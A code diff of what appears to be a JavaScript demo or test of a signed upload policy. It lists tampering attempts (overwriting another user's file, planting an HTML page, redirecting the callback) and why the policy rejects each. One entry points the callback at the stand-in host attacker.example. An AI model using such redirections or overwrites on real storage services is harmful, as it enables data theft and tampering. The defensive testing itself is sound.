@@ -19,7 +19,7 @@ const ALTERATIONS = [
   ["Another name: overwrite somebody's file", "The policy names the one key.",
     (fields) => ({ ...fields, key: "demo/of-somebody-else.txt" })],
   ["Another type: a web page instead of text", "The policy names the type, so no page of yours can be planted.",
-    (fields) => ({ ...fields, "Content-Type": "text/html" })],
+    (fields) => ({ ...fields, "x-oss-content-type": "text/html" })],
   ["Another callback: tell a different server", "The policy holds the whole callback.",
     (fields) => ({ ...fields, callback: btoa(JSON.stringify({ callbackUrl: "http://attacker.example/", callbackBody: "object=${object}" })) })],
   ["Without a callback: keep it from your server", "A condition on a field that is not there fails.",
